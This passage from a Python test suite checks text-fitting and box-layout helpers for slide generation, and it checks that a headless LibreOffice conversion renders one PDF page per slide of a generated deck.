    middle = cut_middle(plain, width, size)
    assert text_width(middle, size) <= width or len(middle) <= 3
    if text_width(plain, size) <= width:
        assert short == plain == middle
    kept, found = fitted([plain, plain], width, 2 * size * 1.3, largest=size, smallest=9)
    assert found <= size
    assert len(kept) <= 2


def test_boxes_side_by_side_fill_a_box() -> None:
    parts = Box(10, 20, 320, 50).columns([1, 2], gap=20)
    assert parts == [Box(10, 20, 100, 50), Box(130, 20, 200, 50)]
    assert Box(0, 0, 100, 100).below(30, gap=10) == Box(0, 40, 100, 60)
    assert Box(0, 0, 100, 100).below(0) == Box(0, 0, 100, 100)


# LibreOffice


def impress() -> str | None:
    """LibreOffice with its presentations, if it is there."""
    program = shutil.which("soffice")
    return program if program and (Path(program).resolve().parent / "libsdlo.so").exists() else None


@pytest.mark.skipif(impress() is None, reason="LibreOffice Impress is not installed")
def test_libreoffice_draws_every_slide(path: Path, deck: Deck, tmp_path: Path) -> None:
    command = [impress(), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    pages = re.findall(rb"/Type\s*/Page\b(?!s)", (tmp_path / "deck.pdf").read_bytes())
    assert len(pages) == len(deck.slides)
